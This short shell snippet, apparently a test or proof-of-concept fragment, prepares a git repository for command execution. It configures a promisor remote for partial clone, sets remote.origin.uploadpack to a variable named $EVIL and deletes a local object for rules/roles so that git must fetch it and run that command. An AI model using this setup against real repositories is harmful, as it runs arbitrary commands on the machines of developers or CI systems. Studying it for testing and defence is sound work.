git remote add origin "$OUTSIDE"
git config core.repositoryFormatVersion 1
git config extensions.partialClone origin
git config remote.origin.promisor true
git config remote.origin.uploadpack "$EVIL"
object=$(git rev-parse HEAD:rules/roles)
rm -f ".git/objects/${object:0:2}/${object:2}"
